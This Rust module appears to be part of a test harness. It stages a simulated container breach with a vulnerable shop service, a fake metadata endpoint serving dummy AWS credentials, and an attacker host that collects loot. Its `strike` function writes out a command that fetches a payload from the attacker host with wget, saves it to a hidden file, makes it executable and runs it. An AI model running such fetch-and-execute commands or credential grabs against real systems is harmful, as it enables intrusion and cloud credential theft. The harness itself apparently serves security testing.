//! The attack: a shop with a hole in a container, a metadata service and an attacker's host outside it, and the one request that starts
//! everything. Takes a place and a network; gives handles and what the attacker got.

use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, Result};

use super::container::{Container, Pod, Wanted};
use super::network::{ATTACKER, CONTAINER, METADATA, Network};
use super::place::Place;
use super::program::{Program, eventually, run};

/// Port of the shop.
const SHOP_PORT: u16 = 8080;
/// Port of the attacker's host.
const HOST_PORT: u16 = 8000;

/// Everything that takes part.
pub struct Attack {
    /// The victim. Ends by itself, or when dropped.
    pub container: Container,
    /// The pod that it is said to be in.
    pub pod: Pod,
    /// Key id of the role's credentials.
    pub role_key: String,
    /// Key id of a user, which stands in the environment of everything in the container.
    pub shop_key: String,
    /// The namespaces.
    pub network: Network,
    loot: PathBuf,
    stage: PathBuf,
    _servers: Vec<Program>,
}

impl Attack {
    /// Starts the victim and everything outside it. The container ends `lifetime_seconds` after it was broken into; 0: never.
    pub fn prepare(place: &Place, lifetime_seconds: u64) -> Result<Self> {
        let network = Network::new(&place.name)?;
        let stage = place.program("stage");
        let loot = place.path("attacker");
        fs::create_dir_all(&loot)?;
        let mut payload = fs::read(&stage).with_context(|| format!("read {}", stage.display()))?;
        payload.extend_from_slice(b"\nstage: dropped\n");
        fs::write(loot.join("x"), payload)?;
        let digits = u128::from(std::process::id()) * 0x9E37_79B9_7F4A_7C15 % (1 << 64);
        let (role_key, shop_key) = (format!("ASIA{digits:016X}"), format!("AKIA{digits:016X}"));
        let servers = start_servers(place, &network, &role_key)?;
        let pod = Pod::shop();
        let wanted = Wanted {
            id: identifier(&place.name),
            pod: pod.clone(),
            arguments: ["shop", "shop", &format!("0.0.0.0:{SHOP_PORT}"), &lifetime_seconds.to_string()]
                .map(str::to_owned)
                .to_vec(),
            environment: vec![format!("AWS_ACCESS_KEY_ID={shop_key}"), "AWS_SECRET_ACCESS_KEY=not-a-secret".to_owned()],
            network: Some(network.inside_path()),
            token: "eyJhbGciOiJSUzI1NiJ9.stage.token",
        };
        let container = Container::start(place, &wanted)?;
        eventually("the shop to open", Duration::from_secs(10), || {
            Ok(container.printed().contains("shop listens").then_some(()))
        })?;
        Ok(Self { container, pod, role_key, shop_key, network, loot, stage, _servers: servers })
    }

    /// The request through the hole: fetch, make executable, run.
    pub fn strike(&self) -> Result<()> {
        let fetch = format!("wget -q -O /tmp/.cache-x http://{ATTACKER}:{HOST_PORT}/x");
        let command = format!("{fetch} && chmod 755 /tmp/.cache-x && /tmp/.cache-x {ATTACKER}:{HOST_PORT}");
        self.exploit(&command)
    }

    /// Any command through the hole; returns when the shell has ended or the shop is gone.
    pub fn exploit(&self, command: &str) -> Result<()> {
        let mut outside = self.network.command_outside(&self.stage);
        outside.args(["exploit", &format!("{CONTAINER}:{SHOP_PORT}"), command]);
        run(&mut outside).map(drop)
    }

    /// What the attacker's host was sent under this name.
    pub fn loot(&self, name: &str) -> Option<Vec<u8>> {
        fs::read(self.loot.join(name)).ok()
    }
}

fn start_servers(place: &Place, network: &Network, role_key: &str) -> Result<Vec<Program>> {
    let credentials = serde_json::json!({
        "Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": role_key,
        "SecretAccessKey": "not-a-secret", "Token": "not-a-token", "Expiration": "2099-01-01T00:00:00Z"
    });
    let folder = place.path("attacker");
    let services: [(&str, Vec<String>); 2] = [
        ("metadata", vec![format!("{METADATA}:80"), super::cloud::ROLE.to_owned(), credentials.to_string()]),
        ("host", vec![format!("{ATTACKER}:{HOST_PORT}"), folder.display().to_string()]),
    ];
    let mut servers = Vec::new();
    for (name, arguments) in services {
        let mut command = network.command_outside(&place.program("stage"));
        command.arg(name).args(arguments);
        let server = Program::start(command, &place.path(&format!("{name}.log")))?;
        eventually(&format!("{name} to listen"), Duration::from_secs(10), || {
            Ok(server.printed().contains("listens").then_some(()))
        })?;
        servers.push(server);
    }
    Ok(servers)
}

fn identifier(text: &str) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(text))
}
